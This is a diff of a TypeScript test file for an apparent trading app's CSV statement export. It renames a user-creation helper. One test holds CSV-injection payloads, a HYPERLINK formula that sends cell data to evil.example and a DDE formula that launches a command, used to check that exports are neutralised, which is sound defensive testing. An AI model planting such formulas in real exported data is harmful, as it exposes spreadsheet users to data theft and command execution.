@@ -13,7 +13,7 @@ import type { FakeMarket } from '../helpers/fake-market.js';
 import { fakeMarketApp } from '../helpers/suites.js';
 import { fundWallet } from '../helpers/money.js';
 import { closeTrade, leverTrader, openedTradeId, openTrade } from '../helpers/trades.js';
-import { call, signUp, type TestUser } from '../helpers/users.js';
+import { call, createUser, type TestUser } from '../helpers/users.js';
 import { ADDRESSES, tronAddress } from '../helpers/addresses.js';
 
 let t: TestApp;
@@ -73,8 +73,8 @@ async function deposit(user: TestUser, amount: string, address: string) {
 
 describe('transactions', () => {
   it("answers the caller's transactions of the period as a CSV download, never another user's", async () => {
-    const user = await signUp(t);
-    const other = await signUp(t);
+    const user = await createUser(t);
+    const other = await createUser(t);
     await fundWallet(t, user, '120.5');
     const old = await deposit(user, '60', LAST_YEAR_SENDER);
     await t.db
@@ -115,7 +115,7 @@ describe('transactions', () => {
   });
 
   it('writes a text a spreadsheet would run as a formula as text (CSV injection through a sender address)', async () => {
-    const attacker = await signUp(t);
+    const attacker = await createUser(t);
     const formulas = [
       '=HYPERLINK("http://evil.example/?"&A1,"Click")',
       "+cmd|' /C calc'!A0",
@@ -139,7 +139,7 @@ describe('transactions', () => {
   });
 
   it("writes the header row in the user's saved language", async () => {
-    const user = await signUp(t);
+    const user = await createUser(t);
     await call(t, 'POST', '/api-v1/user/language/', { token: user.token, body: { language: 'de' } });
     const de = parseCsv((await statement(user, `kind=transactions&from=${today()}&to=${today()}`)).body);
     expect(de).toEqual([
@@ -208,7 +208,7 @@ describe('bad requests change nothing and say why', () => {
     ['kind=trades&from=2026-03-02&to=2026-03-01', STATEMENTS_MSG.fromAfterTo],
     ['kind=trades&from=2025-01-01&to=2026-01-02', STATEMENTS_MSG.periodTooLong],
   ])('%s', async (query, message) => {
-    const user = await signUp(t);
+    const user = await createUser(t);
     const answer = await statement(user, query);
     expect(answer.statusCode).toBe(400);
     expect(answer.json().error).toBe(message);
